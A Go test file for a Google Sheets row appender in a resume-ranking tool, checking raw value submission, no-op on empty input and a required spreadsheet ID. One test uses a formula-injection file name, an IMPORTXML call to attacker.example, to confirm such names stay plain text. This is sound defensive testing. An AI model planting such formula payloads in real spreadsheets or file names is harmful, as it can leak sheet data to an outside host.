package sheets

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"google.golang.org/api/option"
	"google.golang.org/api/sheets/v4"

	domrank "github.com/kailas-cloud/resumerank/internal/domain/ranking"
)

func TestAppender_Append(t *testing.T) {
	var got sheets.ValueRange
	var query string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost || !strings.HasSuffix(r.URL.Path, ":append") {
			t.Errorf("unexpected request %s %s", r.Method, r.URL.Path)
		}
		if !strings.Contains(r.URL.Path, "/v4/spreadsheets/sheet-123/values/") {
			t.Errorf("unexpected path %s", r.URL.Path)
		}
		query = r.URL.RawQuery
		if err := json.NewDecoder(r.Body).Decode(&got); err != nil {
			t.Errorf("decode body: %v", err)
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"spreadsheetId":"sheet-123","updates":{"updatedRows":2}}`))
	}))
	defer srv.Close()

	a, err := New(context.Background(), Config{SpreadsheetID: "sheet-123"},
		option.WithEndpoint(srv.URL+"/"), option.WithHTTPClient(srv.Client()))
	if err != nil {
		t.Fatalf("New: %v", err)
	}

	at := time.Date(2024, 3, 5, 14, 7, 9, 0, time.UTC)
	n, err := a.Append(context.Background(), []domrank.Row{
		{DocumentID: "b.pdf", Rank: 1, CompositeScore: 0.75, SimilarityScore: 0.5},
		{DocumentID: "a.pdf", Rank: 2, CompositeScore: 0.58333333, SimilarityScore: 0.5,
			MissingKeywords: []string{"sql"}},
	}, at)
	if err != nil {
		t.Fatalf("Append: %v", err)
	}
	if n != 2 {
		t.Errorf("expected 2 rows, got %d", n)
	}
	if !strings.Contains(query, "valueInputOption=RAW") {
		t.Errorf("unexpected query %q", query)
	}
	if len(got.Values) != 2 {
		t.Fatalf("expected 2 value rows, got %d", len(got.Values))
	}
	row := got.Values[1]
	if row[0] != "a.pdf" || row[1] != 0.5833 || row[5] != "sql" || row[7] != "2024-03-05 14:07:09" {
		t.Errorf("unexpected row %v", row)
	}
}

func TestAppender_FormulaLikeNamesStayText(t *testing.T) {
	var got sheets.ValueRange
	var query string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		query = r.URL.RawQuery
		if err := json.NewDecoder(r.Body).Decode(&got); err != nil {
			t.Errorf("decode body: %v", err)
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"spreadsheetId":"sheet-123","updates":{"updatedRows":1}}`))
	}))
	defer srv.Close()

	a, err := New(context.Background(), Config{SpreadsheetID: "sheet-123"},
		option.WithEndpoint(srv.URL+"/"), option.WithHTTPClient(srv.Client()))
	if err != nil {
		t.Fatalf("New: %v", err)
	}

	name := `=IMPORTXML("https://attacker.example","//a").pdf`
	if _, err := a.Append(context.Background(), []domrank.Row{{DocumentID: name, Rank: 1}}, time.Now()); err != nil {
		t.Fatalf("Append: %v", err)
	}
	if !strings.Contains(query, "valueInputOption=RAW") || strings.Contains(query, "USER_ENTERED") {
		t.Errorf("values must be sent raw, query %q", query)
	}
	if len(got.Values) != 1 || got.Values[0][0] != name {
		t.Errorf("document id must be sent unchanged, got %v", got.Values)
	}
}

func TestAppender_EmptyRowsSkipsCall(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {
		t.Error("no request expected")
	}))
	defer srv.Close()

	a, err := New(context.Background(), Config{SpreadsheetID: "x"},
		option.WithEndpoint(srv.URL+"/"), option.WithHTTPClient(srv.Client()))
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if n, err := a.Append(context.Background(), nil, time.Now()); err != nil || n != 0 {
		t.Errorf("expected no-op, got %d, %v", n, err)
	}
}

func TestNew_RequiresSpreadsheetID(t *testing.T) {
	if _, err := New(context.Background(), Config{}); err == nil {
		t.Error("expected error for missing spreadsheet id")
	}
}
